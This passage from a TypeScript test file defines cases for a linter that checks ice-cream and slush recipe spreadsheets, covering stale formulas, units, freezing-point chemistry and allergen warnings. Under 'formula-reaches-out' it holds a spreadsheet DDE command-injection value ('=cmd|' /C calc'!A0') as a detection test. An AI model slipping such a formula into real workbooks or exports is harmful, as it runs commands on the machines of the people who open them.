import type { ShortCell } from "../../src/workbook/sheetFromRows";
import type { Rows } from "./bookOf";
import { formula } from "./bookOf";
import { callFunction } from "../../src/worksheet/callFunction";
import { alcoholCases } from "./alcoholCases";
import { answerCases } from "./answerCases";
import { impossibleCases } from "./impossibleCases";
import { arrangementCases } from "./arrangementCases";
import { bareShareCases } from "./bareShareCases";
import { beakerCases } from "./beakerCases";
import { besideLineCases } from "./besideLineCases";
import { boundCases } from "./boundCases";
import { classAcrossCases } from "./classAcrossCases";
import { classCases } from "./classCases";
import { classroomCases } from "./classroomCases";
import { comparedCases } from "./comparedCases";
import { courseCases } from "./courseCases";
import { counterCases } from "./counterCases";
import { dataBesideCases } from "./dataBesideCases";
import { ethanolCases } from "./ethanolCases";
import { filledLineCases } from "./filledLineCases";
import { helpingCases } from "./helpingCases";
import { hiddenCases } from "./hiddenCases";
import { inputCases, otherTotalCases } from "./inputCases";
import { inputUnitCases } from "./inputUnitCases";
import { manyRecipesCases } from "./manyRecipesCases";
import { massCases } from "./massCases";
import { measuredInputCases } from "./measuredInputCases";
import { marketCases } from "./marketCases";
import { mixtureCases } from "./mixtureCases";
import { jugCases } from "./jugCases";
import { kettleCases } from "./kettleCases";
import { legendCases } from "./legendCases";
import { lessonCases } from "./lessonCases";
import { listsSideBySideCases } from "./listsSideBySideCases";
import { longListCases } from "./longListCases";
import { plainPartCases } from "./plainPartCases";
import { protocolCases } from "./protocolCases";
import type { RuleCase } from "./ruleCase";
import { namedShareCases } from "./namedShareCases";
import { ownTargetCases } from "./ownTargetCases";
import { oddWordingCases } from "./oddWordingCases";
import { outingCases } from "./outingCases";
import { panCases } from "./panCases";
import { quantityCases } from "./quantityCases";
import { pastedCases } from "./pastedCases";
import { placedAnswerCases } from "./placedAnswerCases";
import { dayCases, readingCases, threeReadingsCases } from "./readingCases";
import { scaleCases, tapWaterCases } from "./scaleCases";
import { servedCases } from "./servedCases";
import { kitchenCases } from "./kitchenCases";
import { pairCases } from "./pairCases";
import { shopCases } from "./shopCases";
import { shareCases } from "./shareCases";
import { slipCases } from "./slipCases";
import { sayingCases } from "./sayingCases";
import { severalListsCases } from "./severalListsCases";
import { oddOneOutCases } from "./oddOneOutCases";
import { solutionRowCases } from "./solutionRowCases";
import { solutionTableCases } from "./solutionTableCases";
import { stoppingShortCases } from "./stoppingShortCases";
import { lotsAndJugsCases } from "./lotsAndJugsCases";
import { saidNumberCases } from "./saidNumberCases";
import { saidOfSumCases } from "./saidOfSumCases";
import { structureCases } from "./structureCases";
import { writtenUnitsCases } from "./writtenUnitsCases";
import { sumLineCases } from "./sumLineCases";
import { sumRowCases } from "./sumRowCases";
import { tabulatedCases } from "./tabulatedCases";
import { textNumberCases } from "./textNumberCases";
import { toldElsewhereCases } from "./toldElsewhereCases";
import { totalCases } from "./totalCases";
import { totalPlaceCases } from "./totalPlaceCases";
import { tubeCases } from "./tubeCases";
import { umlautCases } from "./umlautCases";
import { unitCases } from "./unitCases";
import { vatCases } from "./vatCases";
import { variationCases } from "./variationCases";
import { posterCases } from "./posterCases";
import { vocationalCases } from "./vocationalCases";
import { walkCases } from "./walkCases";
import { wholeCases } from "./wholeCases";
import { wordingCases } from "./wordingCases";
import { worksheetCases } from "./worksheetCases";
import { averagedReadingCases } from "./averagedReadingCases";
import { stepCases } from "./stepCases";
import { waterOfClassCases } from "./waterOfClassCases";
import { workedExampleCases } from "./workedExampleCases";
import { workedRowCases } from "./workedRowCases";

/**
 * Each rule with sheets that must and must not be flagged. Expected sizes are worked out by hand beside
 * them; the classroom law and Kf = 1.86 are OpenStax Chemistry 2e, section 11.4.
 */
export const recipe = (...more: Rows): Rows => [
  ["Ingredient", "Amount (g)"],
  ["Water", 500],
  ["Sucrose", 150],
  ...more,
];

/** 150 g of sucrose in 850 g of water, with a labelled share of ice on the stated basis, in %. */
function iceRows(label: string, basis: "water" | "mix"): Rows {
  const [[share] = []] = callFunction(
    "ICEFRACTION",
    [["water"], ["sucrose"]],
    [[850], [150]],
    -8,
    basis,
  );
  return [
    ["Ingredient", "g"],
    ["Water", 850],
    ["Sucrose", 150],
    [label, Math.round(Number(share) * 1000) / 10, "%"],
  ];
}

const lactoseOf = (item: string, grams: number): number =>
  Math.round(Number(callFunction("COMPONENT", [[item]], [[grams]], "lactose")[0]?.[0]) * 10) / 10;

/** 34.23 g of sucrose (0.1 mol) and 5.844 g of salt in 500 g of water, with a stated depression. */
const molesSheet = (saltMoles: number, depressionK: number): Rows => [
  ["Ingredient", "g", "Moles"],
  ["Water", 500, null],
  ["Sucrose", 34.23, 0.1],
  ["Sodium chloride", 5.844, saltMoles],
  ["Depression (K)", depressionK],
];

/** A costed recipe of some rows; the cost column is made row by row, counted as on the sheet. */
function priced(rows: number, cost: (row: number) => ShortCell): Rows {
  const names = ["Water", "Sucrose", "Fructose", "Glucose", "Lemon juice"].slice(0, rows);
  return [
    ["Ingredient", "g", "Price per kg", "Cost"],
    ...names.map((name, at) => [name, 100, 2, cost(at + 2)]),
  ];
}

export const ruleCases: readonly RuleCase[] = [
  ...arrangementCases,
  ...comparedCases,
  ...counterCases,
  ...courseCases,
  ...ethanolCases,
  ...umlautCases,
  ...vatCases,
  ...filledLineCases,
  ...solutionRowCases,
  ...workedRowCases,
  ...solutionTableCases,
  ...besideLineCases,
  ...toldElsewhereCases,
  ...beakerCases,
  ...dataBesideCases,
  ...posterCases,
  ...vocationalCases,
  ...walkCases,
  ...helpingCases,
  ...lotsAndJugsCases,
  ...saidNumberCases,
  ...saidOfSumCases,
  ...structureCases,
  ...writtenUnitsCases,
  ...stoppingShortCases,
  ...answerCases,
  ...averagedReadingCases,
  ...legendCases,
  ...listsSideBySideCases,
  ...protocolCases,
  ...stepCases,
  ...impossibleCases,
  ...variationCases,
  ...lessonCases,
  ...longListCases,
  ...marketCases,
  ...measuredInputCases,
  ...mixtureCases,
  ...ownTargetCases,
  ...totalCases,
  ...totalPlaceCases,
  ...oddWordingCases,
  ...outingCases,
  ...panCases,
  ...pastedCases,
  ...quantityCases,
  ...placedAnswerCases,
  ...tubeCases,
  ...unitCases,
  ...bareShareCases,
  ...boundCases,
  ...classAcrossCases,
  ...classCases,
  ...classroomCases,
  ...plainPartCases,
  ...wholeCases,
  ...wordingCases,
  ...worksheetCases,
  ...waterOfClassCases,
  ...workedExampleCases,
  ...alcoholCases,
  ...servedCases,
  ...scaleCases,
  ...slipCases,
  ...tapWaterCases,
  ...readingCases,
  ...threeReadingsCases,
  ...jugCases,
  ...kettleCases,
  ...dayCases,
  ...kitchenCases,
  ...pairCases,
  ...shopCases,
  ...namedShareCases,
  ...shareCases,
  ...sumLineCases,
  ...sumRowCases,
  ...tabulatedCases,
  ...textNumberCases,
  // stale-value
  {
    rule: "stale-value",
    what: "an amount and a text whose formulas give something else",
    rows: recipe(["Fructose", formula("B2/10", 20)], ["Total", formula("B2+B3", 670)]),
    fresh: { B4: 50, B5: 670.0000001 },
    cells: ["B4"],
  },
  {
    rule: "stale-value",
    what: "formulas stored without a result, told once",
    rows: recipe(["Fructose", { value: null, formula: "B2/10" }], ["Total", formula("B2+B3", 650)]),
    fresh: { B4: 50, B5: 650 },
    cells: ["B4"],
  },
  {
    rule: "stale-value",
    what: "the same values, a blank that is 0, and an error that only the engine here sees",
    rows: recipe(
      ["Fructose", formula("B2/25", 20)],
      ["Extra", formula("C9", 0)],
      ["x", formula("ODD()", 4)],
    ),
    fresh: { B4: 20 * (1 + 1e-9), B5: null, B6: { error: "#VALUE!" } },
    cells: [],
  },
  // number-as-text
  {
    rule: "number-as-text",
    what: "a decimal comma as text",
    rows: recipe(["Lemon juice", "12,5"]),
    cells: ["B4"],
  },
  {
    rule: "number-as-text",
    what: "a unit in the cell",
    rows: recipe(["Lemon juice", "12.5 g"]),
    cells: ["B4"],
  },
  {
    rule: "number-as-text",
    what: "a number stored as text",
    rows: recipe(["Lemon juice", " 40 "]),
    cells: ["B4"],
  },
  { rule: "number-as-text", what: "real numbers", rows: recipe(["Lemon juice", 12.5]), cells: [] },
  {
    rule: "number-as-text",
    what: "a word instead of an amount",
    rows: recipe(["Lemon juice", "to taste"]),
    cells: [],
  },
  {
    rule: "number-as-text",
    what: "a written list where every amount is a text",
    rows: [
      ["Ingredient", "Amount"],
      ["Water", "500 g"],
      ["Sucrose", "150 g"],
    ],
    cells: [],
  },
  // unknown-ingredient
  {
    rule: "unknown-ingredient",
    what: "a misspelt name",
    rows: recipe(["Fructsoe", 30]),
    cells: ["A4"],
  },
  {
    rule: "unknown-ingredient",
    what: "an unknown name without an amount",
    rows: recipe(["Moon dust", null]),
    cells: [],
  },
  {
    rule: "unknown-ingredient",
    what: "known names in another case",
    rows: recipe([" fructose ", 30]),
    cells: [],
  },
  {
    rule: "unknown-ingredient",
    what: "a name across that could head something else, first in the row and counted in the totals",
    rows: [
      ["Mix (g)", "stock no. 17", "Water", "Sucrose", "Total"],
      ["A", 50, 600, 150, 800],
      ["B", 40, 500, 160, 700],
    ],
    cells: ["B1"],
  },
  {
    rule: "unknown-ingredient",
    what: "a name across that could head something else, of which only the last of five rows takes any",
    rows: [
      ["Mix (g)", "Water", "stock no. 17", "Sucrose", "Total"],
      ...["A", "B", "C", "D"].map((mix) => [mix, 600, null, 150, 750]),
      ["E", 500, 60, 160, 720],
    ],
    cells: ["C1"],
  },
  {
    rule: "unknown-ingredient",
    what: "pieces and the number in stock beside a row of recipes",
    rows: [
      ["Mix (g)", "In stock", "Water", "Sucrose", "Pieces", "Total"],
      ["A", 50, 600, 150, 12, 750],
      ["B", 40, 500, 160, 10, 660],
    ],
    cells: [],
  },
  {
    rule: "unknown-ingredient",
    what: "the sticks and the box of a costing sheet",
    rows: recipe(["Wooden sticks", 12], ["Box", 1]),
    cells: [],
  },
  {
    rule: "unknown-ingredient",
    what: "a name of the own-ingredients range",
    rows: {
      Sheet1: recipe(["Plum jam", 50]),
      Own: [
        ["name", "water", "sucrose"],
        ["Plum jam", 40, 60],
      ],
    },
    cells: [],
  },
  // ambiguous-ingredient, hydrate-not-stated
  {
    rule: "ambiguous-ingredient",
    what: "milk without its kind",
    rows: recipe(["Milk", 200]),
    cells: ["A4"],
  },
  {
    rule: "ambiguous-ingredient",
    what: "whole milk",
    rows: recipe(["Whole milk", 200]),
    cells: [],
  },
  {
    rule: "ambiguous-ingredient",
    what: "dextrose, which another rule tells of",
    rows: recipe(["Dextrose", 60]),
    cells: [],
  },
  { rule: "hydrate-not-stated", what: "dextrose", rows: recipe(["Dextrose", 60]), cells: ["A4"] },
  {
    rule: "hydrate-not-stated",
    what: "dextrose monohydrate",
    rows: recipe(["Dextrose monohydrate", 60]),
    cells: [],
  },
  {
    rule: "hydrate-not-stated",
    what: "a pinch of citric acid, whose water changes nothing",
    rows: recipe(["Citric acid", 2]),
    cells: [],
  },
  {
    rule: "hydrate-not-stated",
    what: "dextrose not used",
    rows: recipe(["Dextrose", null]),
    cells: [],
  },
  // freezing-point-sign
  {
    rule: "freezing-point-sign",
    what: "a positive freezing point",
    rows: recipe(["Freezing point", 1.7]),
    cells: ["B4"],
  },
  {
    rule: "freezing-point-sign",
    what: "a negative depression",
    rows: recipe(["Depression (K)", -1.7]),
    cells: ["B4"],
  },
  {
    rule: "freezing-point-sign",
    what: "a negative freezing point",
    rows: recipe(["Freezing point", -1.7]),
    cells: [],
  },
  {
    rule: "freezing-point-sign",
    what: "a positive depression",
    rows: recipe(["Freezing point depression", 1.7]),
    cells: [],
  },
  {
    rule: "freezing-point-sign",
    what: "a freezing point in °F",
    rows: recipe(["Freezing point (°F)", 28.9]),
    cells: [],
  },
  {
    rule: "freezing-point-sign",
    what: "the freezing point of water alone",
    rows: [
      ["Ingredient", "g"],
      ["Water", 500],
      ["Freezing point", 0],
    ],
    cells: [],
  },
  // total-incomplete
  {
    rule: "total-incomplete",
    what: "a sum that ends a row too early",
    rows: recipe(["Lemon juice", 50], ["Total", formula("SUM(B2:B3)", 650)]),
    cells: ["B5"],
  },
  {
    rule: "total-incomplete",
    what: "a full sum",
    rows: recipe(["Total", formula("SUM(B2:B3)", 650)]),
    cells: [],
  },
  {
    rule: "total-incomplete",
    what: "a typed total, rounded",
    rows: recipe(["Lemon juice", 50.4], ["Total", 700]),
    cells: [],
  },
  {
    rule: "total-incomplete",
    what: "a typed total that is wrong",
    rows: recipe(["Lemon juice", 50], ["Total", 650]),
    cells: ["B5"],
  },
  {
    rule: "total-incomplete",
    what: "a subtotal and a total",
    rows: recipe(["Subtotal", 650], ["Pistachios", 50], ["Total", 700]),
    cells: [],
  },
  {
    rule: "total-incomplete",
    what: "shares that come to 97 %",
    rows: [
      ["Ingredient", "Share %"],
      ["Water", 70],
      ["Sucrose", 20],
      ["Lemon juice", 7],
    ],
    cells: ["B2:B4"],
  },
  {
    rule: "total-incomplete",
    what: "shares that come to 100 %",
    rows: [
      ["Ingredient", "Share %"],
      ["Water", 70],
      ["Sucrose", 20],
      ["Lemon juice", 10],
    ],
    cells: [],
  },
  // cryoscopic-constant
  {
    rule: "cryoscopic-constant",
    what: "Kf = 18.6",
    rows: recipe([null], ["Kf", 18.6]),
    cells: ["B5"],
  },
  {
    rule: "cryoscopic-constant",
    what: "Kf = 3.35 on a sheet in °C",
    rows: recipe([null], ["Kf (K kg/mol)", 3.35]),
    cells: ["B5"],
  },
  { rule: "cryoscopic-constant", what: "Kf = 1.86", rows: recipe([null], ["Kf", 1.86]), cells: [] },
  {
    rule: "cryoscopic-constant",
    what: "Kf = 1.853, as measured",
    rows: recipe([null], ["Kf", 1.853]),
    cells: [],
  },
  {
    rule: "cryoscopic-constant",
    what: "Kf = 3.35 for °F, and said so",
    rows: recipe([null], ["Kf (°F kg/mol)", 3.35]),
    cells: [],
  },
  {
    rule: "cryoscopic-constant",
    what: "18.6 typed into the formula of a depression",
    rows: recipe(["Depression", formula("18.6*(B3/342.3)/(B2/1000)", 16.3)]),
    cells: ["B4"],
  },
  {
    rule: "cryoscopic-constant",
    what: "1.86 typed into the formula",
    rows: recipe(["Depression", formula("1.86*(B3/342.3)/(B2/1000)", 1.63)]),
    cells: [],
  },
  // constant-of-a-solute
  {
    rule: "constant-of-a-solute",
    what: "the anhydrous molar mass for dextrose monohydrate",
    rows: [
      ["Ingredient", "g", "Molar mass"],
      ["Water", 500, 18.02],
      ["Sucrose", 100, 342.3],
      ["Dextrose monohydrate", 50, 180.16],
    ],
    cells: ["C4"],
  },
  {
    rule: "constant-of-a-solute",
    what: "salt with one particle",
    rows: [
      ["Ingredient", "g", "van 't Hoff"],
      ["Water", 500, null],
      ["Sucrose", 100, 1],
      ["Sodium chloride", 5, 1],
    ],
    cells: ["C4"],
  },
  {
    rule: "constant-of-a-solute",
    what: "right constants, rounded, and i = 1.9 for a real salt",
    rows: [
      ["Ingredient", "g", "g/mol", "i"],
      ["Water", 500, 18, 1],
      ["Sucrose", 100, 342, 1],
      ["Sodium chloride", 5, 58.4, 1.9],
    ],
    cells: [],
  },
  // inclusion-as-solute
  {
    rule: "inclusion-as-solute",
    what: "pistachios with moles",
    rows: [
      ["Ingredient", "g", "Moles"],
      ["Water", 500, null],
      ["Sucrose", 100, 0.292],
      ["Pistachios", 60, 0.175],
    ],
    cells: ["C4"],
  },
  {
    rule: "inclusion-as-solute",
    what: "pistachios marked as a solute",
    rows: [
      ["Ingredient", "g", "Solute?"],
      ["Water", 500, "no"],
      ["Sucrose", 100, "yes"],
      ["Pistachios", 60, "yes"],
    ],
    cells: ["C4"],
  },
  {
    rule: "inclusion-as-solute",
    what: "pistachios left out of the moles",
    rows: [
      ["Ingredient", "g", "Moles"],
      ["Water", 500, null],
      ["Sucrose", 100, 0.292],
      ["Pistachios", 60, null],
      ["Sodium chloride", 2, 0.034],
    ],
    cells: [],
  },
  {
    rule: "inclusion-as-solute",
    what: "one of two things that stay whole in what dissolves",
    rows: [
      ["Ingredient", "g"],
      ["Water", 600],
      ["Sucrose", 150],
      ["Hazelnuts", 60],
      ["Dark chocolate (pieces)", 40],
      [],
      ["Dissolved solids (g)", 210],
    ],
    cells: ["B7"],
  },
  {
    rule: "inclusion-as-solute",
    what: "a column of what does not dissolve",
    rows: [
      ["Ingredient", "g", "Does not dissolve (g)"],
      ["Water", 600, 0],
      ["Sucrose", 150, 0],
      ["Hazelnuts", 60, 60],
    ],
    cells: [],
  },
  // abv-as-mass: 40 % by volume is 33.3 % by mass (OIML R 22, as printed in every alcohol table)
  {
    rule: "abv-as-mass",
    what: "40 % of the grams taken as ethanol",
    rows: [
      ["Ingredient", "g", "ABV %", "Ethanol g"],
      ["Water", 500, null, null],
      ["Sucrose", 100, null, null],
      ["Spirit 40 % vol", 50, 40, 20],
    ],
    cells: ["D4"],
  },
  {
    rule: "abv-as-mass",
    what: "33.3 % of the grams taken as ethanol",
    rows: [
      ["Ingredient", "g", "ABV %", "Ethanol g"],
      ["Water", 500, null, null],
      ["Sucrose", 100, null, null],
      ["Spirit 40 % vol", 50, 40, 16.65],
    ],
    cells: [],
  },
  // temperature-units-mixed
  {
    rule: "temperature-units-mixed",
    what: "one temperature typed with °F",
    rows: recipe([null], ["Churned at (°C)", -5], ["Freezer (°C)", -18], ["Served at", "5 °F"]),
    cells: ["B7"],
  },
  {
    rule: "temperature-units-mixed",
    what: "a freezer at 0 on a sheet in °C",
    rows: recipe([null], ["Churned at (°C)", -5], ["Freezer temperature (°C)", 0]),
    cells: ["B6"],
  },
  {
    rule: "temperature-units-mixed",
    what: "a sheet in °C",
    rows: recipe([null], ["Churned at (°C)", -5], ["Freezer temperature (°C)", -18]),
    cells: [],
  },
  {
    rule: "temperature-units-mixed",
    what: "a column that says °F itself",
    rows: recipe([null], ["Place", "°C", "°F"], ["Freezer", -18, "0 °F"]),
    cells: [],
  },
  // result-differs. Sucrose 150 g in 500 g of water: 0.876 mol/kg, so 1.63 K by the law, about 1.75 measured (CRC).
  {
    rule: "result-differs",
    what: "a freezing point far from the recipe's",
    rows: recipe(["Freezing point", -3.4]),
    cells: ["B4"],
  },
  {
    rule: "result-differs",
    what: "the measured freezing point",
    rows: recipe(["Freezing point", -1.75]),
    cells: [],
  },
  {
    rule: "result-differs",
    what: "a measured value that differs",
    rows: recipe(["Measured freezing point", -3.4]),
    cells: [],
  },
  {
    rule: "result-differs",
    what: "the classroom law at a strength where it holds",
    rows: recipe(["Depression", 1.63]),
    cells: [],
  },
  {
    rule: "result-differs",
    what: "a wrong molality",
    rows: recipe(["Molality (mol/kg)", 0.674]),
    cells: ["B4"],
  },
  {
    rule: "result-differs",
    what: "the right molality",
    rows: recipe(["Molality (mol/kg)", 0.876]),
    cells: [],
  },
  {
    rule: "ideal-law-too-far-off",
    what: "the law at 42 % sucrose: 3.9 K for a measured 4.9 (CRC 102nd ed.)",
    rows: [
      ["Ingredient", "g"],
      ["Water", 58],
      ["Sucrose", 42],
      ["Depression", 3.93],
    ],
    cells: ["B4"],
  },
  {
    rule: "ideal-law-too-far-off",
    what: "the law at 23 % sucrose",
    rows: recipe(["Depression", 1.63]),
    cells: [],
  },
  // error-in-an-amount
  {
    rule: "error-in-an-amount",
    what: "an amount that is #REF!",
    rows: recipe(["Lemon juice", { error: "#REF!" }]),
    cells: ["B4"],
  },
  {
    rule: "error-in-an-amount",
    what: "an error elsewhere",
    rows: recipe([null], ["Cost", { error: "#REF!" }]),
    cells: [],
  },
  {
    rule: "error-in-an-amount",
    what: "a workbook calculated where our functions are not known, told once",
    rows: recipe(
      ["Freezing point (°C)", formula("RIME.FREEZINGPOINT(A2:A3,B2:B3)", { error: "#NAME?" })],
      ["Depression (K)", formula("RIME.DEPRESSION(A2:A3,B2:B3)", { error: "#NAME?" })],
    ),
    cells: ["B4"],
  },
  {
    rule: "stale-value",
    what: "a workbook calculated where our functions are not known, which F9 does not mend",
    rows: recipe(
      ["Freezing point (°C)", formula("RIME.FREEZINGPOINT(A2:A3,B2:B3)", { error: "#NAME?" })],
      ["Twice that", formula("B4*2", { error: "#NAME?" })],
    ),
    fresh: { B4: -2.5, B5: -5 },
    cells: [],
  },
  {
    rule: "stale-value",
    what: "#NAME? where all functions were known",
    rows: recipe(["Fructose", formula("B3*2", { error: "#NAME?" })]),
    fresh: { B4: 300 },
    cells: ["B4"],
  },
  // ingredient-twice
  { rule: "ingredient-twice", what: "a row copied", rows: recipe(["sucrose", 150]), cells: ["A4"] },
  {
    rule: "ingredient-twice",
    what: "sugar added in two steps",
    rows: recipe(["Sucrose", 20]),
    cells: [],
  },
  // hidden-amount
  {
    rule: "hidden-amount",
    what: "a hidden row",
    rows: recipe(["Fructose", 60]),
    cells: ["B4"],
    extras: { hiddenRows: new Set([3]) },
  },
  {
    rule: "hidden-amount",
    what: "a hidden row without an amount",
    rows: recipe(["Fructose", null]),
    cells: [],
    extras: { hiddenRows: new Set([3]) },
  },
  ...hiddenCases,
  ...inputCases,
  ...inputUnitCases,
  ...otherTotalCases,
  ...manyRecipesCases,
  ...massCases,
  ...sayingCases,
  ...severalListsCases,
  ...oddOneOutCases,
  // own-ingredients-refused
  {
    rule: "own-ingredients-refused",
    what: "parts that add up to 150 g",
    rows: [
      ["name", "water", "sucrose"],
      ["plum jam", 90, 60],
    ],
    cells: ["A2"],
  },
  {
    rule: "own-ingredients-refused",
    what: "parts that add up to 100 g",
    rows: [
      ["name", "water", "sucrose"],
      ["plum jam", 40, 60],
    ],
    cells: [],
  },
  // ice-of-water-or-mix: of 850 g of water about 0.8 is ice at −8 °C, which is about 0.68 of the 1000 g
  {
    rule: "ice-of-water-or-mix",
    what: "the share of the water under the name of the mix's",
    rows: iceRows("Ice at −8 °C, share of the mix", "water"),
    cells: ["B4"],
  },
  {
    rule: "ice-of-water-or-mix",
    what: "the share of the mix under the name of the water's",
    rows: iceRows("Share of the water frozen at −8 °C", "mix"),
    cells: ["B4"],
  },
  {
    rule: "ice-of-water-or-mix",
    what: "each under its own name",
    rows: iceRows("Share of the water frozen at −8 °C", "water"),
    cells: [],
  },
  // misses-its-target: the bands are those of the catalogue, whose textbook mixes meet them
  {
    rule: "misses-its-target",
    what: "water with 15 % sugar called a scraped granita's opposite",
    rows: [
      ["Ingredient", "g"],
      ["Water", 950],
      ["Sucrose", 50],
      ["Style", "drinkable slush"],
    ],
    cells: ["B4"],
  },
  {
    rule: "misses-its-target",
    what: "the textbook slush",
    rows: [
      ["Ingredient", "g"],
      ["Water", 850],
      ["Sucrose", 150],
      ["Style", "drinkable slush"],
    ],
    cells: [],
  },
  {
    rule: "misses-its-target",
    what: "a style of someone's own",
    rows: [
      ["Ingredient", "g"],
      ["Water", 950],
      ["Sucrose", 50],
      ["Style", "grandmother's"],
    ],
    cells: [],
  },
  // water-not-counted: cream of 35 % fat is about 59 % water, strawberries about 91 % (USDA FoodData Central)
  {
    rule: "water-not-counted",
    what: "the water of strawberries left out",
    rows: [
      ["Ingredient", "g"],
      ["Water", 200],
      ["Sucrose", 150],
      ["Strawberry", 300],
      [null],
      ["Water in the mix (g)", 200],
    ],
    cells: ["B6"],
  },
  {
    rule: "water-not-counted",
    what: "water alone, where there is no other",
    rows: [
      ["Ingredient", "g"],
      ["Water", 200],
      ["Sucrose", 50],
      [null],
      ["Water in the mix (g)", 200],
    ],
    cells: [],
  },
  // per-water-or-per-mix: 115 g of sucrose in 350 g of water are 32.9 g per 100 g of water and 24.7 % by mass
  {
    rule: "per-water-or-per-mix",
    what: "g per 100 g of water called mass %",
    rows: [["Ingredient", "g"], ["Water", 350], ["Sucrose", 115], [null], ["Sugar, mass %", 32.9]],
    cells: ["B5"],
  },
  {
    rule: "per-water-or-per-mix",
    what: "mass % called g per 100 g of water",
    rows: [
      ["Ingredient", "g"],
      ["Water", 350],
      ["Sucrose", 115],
      [null],
      ["Sugar, g per 100 g water", 24.7],
    ],
    cells: ["B5"],
  },
  {
    rule: "per-water-or-per-mix",
    what: "each by its name",
    rows: [
      ["Ingredient", "g"],
      ["Water", 350],
      ["Sucrose", 115],
      [null],
      ["Sugar, g per 100 g water", 32.9],
      ["Sugar, mass %", 24.7],
    ],
    cells: [],
  },
  // lactose-twice: skim milk powder is about half lactose
  {
    rule: "lactose-twice",
    what: "the lactose of milk powder listed again",
    rows: [
      ["Ingredient", "g"],
      ["Water", 600],
      ["Skim milk powder", 100],
      ["Sucrose", 120],
      ["Lactose", lactoseOf("skim milk powder", 100)],
    ],
    cells: ["B5"],
  },
  {
    rule: "lactose-twice",
    what: "and as the weight of its monohydrate",
    rows: [
      ["Ingredient", "g"],
      ["Water", 600],
      ["Skim milk powder", 100],
      ["Sucrose", 120],
      ["Lactose monohydrate", (lactoseOf("skim milk powder", 100) * 1.03) / 0.95],
    ],
    cells: ["B5"],
  },
  {
    rule: "lactose-twice",
    what: "some lactose added",
    rows: [
      ["Ingredient", "g"],
      ["Water", 600],
      ["Skim milk powder", 100],
      ["Sucrose", 120],
      ["Lactose", 15],
    ],
    cells: [],
  },
  // percent-and-fraction
  {
    rule: "percent-and-fraction",
    what: "0.1 among percentages",
    rows: [
      ["Ingredient", "Share %"],
      ["Water", 70],
      ["Sucrose", 20],
      ["Fructose", 0.1],
    ],
    cells: ["B4"],
  },
  {
    rule: "percent-and-fraction",
    what: "half a per cent of a gum",
    rows: [
      ["Ingredient", "Share %"],
      ["Water", 70],
      ["Sucrose", 29.5],
      ["Guar gum", 0.5],
    ],
    cells: [],
  },
  // mass-units-mixed
  {
    rule: "mass-units-mixed",
    what: "kg marked in a column of grams",
    rows: [
      ["Ingredient", "Amount (g)", "Unit"],
      ["Water", 0.5, "kg"],
      ["Sucrose", 150, "g"],
      ["Fructose", 20, "g"],
    ],
    cells: ["B2"],
  },
  {
    rule: "mass-units-mixed",
    what: "units that differ where the header names none",
    rows: [
      ["Ingredient", "Amount", "Unit"],
      ["Water", 0.5, "kg"],
      ["Sucrose", 150, "g"],
      ["Fructose", 20, "g"],
    ],
    cells: [],
  },
  // formula-overwritten
  {
    rule: "formula-overwritten",
    what: "a number among formulas",
    rows: priced(5, (row) => (row === 4 ? 1.5 : formula(`B${row}*C${row}/1000`, 1))),
    cells: ["D4"],
  },
  {
    rule: "inconsistent-formula",
    what: "another formula among formulas",
    rows: priced(5, (row) => formula(row === 4 ? "B3*C4/1000" : `B${row}*C${row}/1000`, 1)),
    cells: ["D4"],
  },
  {
    rule: "formula-overwritten",
    what: "one pattern down the column",
    rows: priced(5, (row) => formula(`B${row}*C${row}/1000`, 1)),
    cells: [],
  },
  { rule: "formula-overwritten", what: "numbers only", rows: priced(5, () => 1), cells: [] },
  // value-from-outside
  {
    rule: "value-from-outside",
    what: "an amount from another workbook",
    rows: recipe(["Fructose", formula("[1]Stock!B2", 30)]),
    cells: ["B4"],
    workbook: { externalLinks: ["file:///shelf/stock%20list.xlsx"] },
  },
  {
    rule: "value-from-outside",
    what: "a result by a missing add-in",
    rows: recipe(["Freezing point", formula("_xldudf_COLD_POINT(B2:B3)", -1.75)]),
    cells: ["B4"],
  },
  {
    rule: "value-from-outside",
    what: "amounts from another sheet, one by a table's column",
    rows: recipe(["Fructose", formula("Stock!B2", 30)], ["Salt", formula("[@Part]*Stock!B3", 2)]),
    cells: [],
  },
  {
    rule: "value-from-outside",
    what: "a link that no recipe uses",
    rows: recipe([null], ["Rent", formula("[1]Stock!B2", 30)]),
    cells: [],
    workbook: { externalLinks: ["stock.xlsx"] },
  },
  // manual-calculation
  {
    rule: "manual-calculation",
    what: "a recipe book set to manual",
    rows: recipe(),
    cells: ["A1:B3"],
    workbook: { calculation: "manual" },
  },
  {
    rule: "manual-calculation",
    what: "a recipe book that recalculates",
    rows: recipe(),
    cells: [],
  },
  // formula-reaches-out
  {
    rule: "formula-reaches-out",
    what: "WEBSERVICE",
    rows: [[formula('WEBSERVICE("http://example.org/"&A2)', "x")]],
    cells: ["A1"],
  },
  {
    rule: "formula-reaches-out",
    what: "a pasted command",
    rows: [["=cmd|' /C calc'!A0"]],
    cells: ["A1"],
  },
  {
    rule: "formula-reaches-out",
    what: "a plain link",
    rows: [[formula('HYPERLINK("https://example.org/","notes")', "notes")]],
    cells: [],
  },
  // caution-not-named (21 U.S.C. 343(w), EU 1169/2011 Annex II; honey: common advice on infant botulism, from memory)
  {
    rule: "caution-not-named",
    what: "nuts and honey without a word",
    rows: recipe(["Pistachios", 30], ["Honey, clover", 20]),
    cells: ["A1:B5"],
  },
  {
    rule: "caution-not-named",
    what: "nuts and honey with the words",
    rows: recipe(
      ["Pistachios", 30],
      ["Honey, clover", 20],
      [null],
      ["Contains tree nuts. No honey for infants under 12 months."],
    ),
    cells: [],
  },
  { rule: "caution-not-named", what: "sugar and water", rows: recipe(), cells: [] },
  // many-single-calls
  {
    rule: "many-single-calls",
    what: "1200 single calls",
    rows: Array.from({ length: 1200 }, (_, at) => [
      formula(`RIME.MOLALITY("sucrose",B${at + 1},100)`, 1),
    ]),
    cells: ["A1:A1200"],
  },
  {
    rule: "many-single-calls",
    what: "ten single calls",
    rows: Array.from({ length: 10 }, (_, at) => [
      formula(`RIME.MOLALITY("sucrose",B${at + 1},100)`, 1),
    ]),
    cells: [],
  },
  // particles-not-counted: 5.844 g of NaCl are 0.1 mol, in 500 g of water 0.2 mol/kg of salt, 0.4 of particles
  {
    rule: "particles-not-counted",
    what: "a depression from the plain sum of the moles",
    rows: molesSheet(0.1, 1.86 * ((0.1 + 0.1) / 0.5)),
    cells: ["C4"],
  },
  {
    rule: "particles-not-counted",
    what: "a depression that counts the salt twice",
    rows: molesSheet(0.1, 1.86 * ((0.1 + 0.2) / 0.5)),
    cells: [],
  },
  {
    rule: "particles-not-counted",
    what: "moles of particles in the column",
    rows: molesSheet(0.2, 1.86 * ((0.1 + 0.2) / 0.5)),
    cells: [],
  },
  // constant-of-a-solute by the moles alone
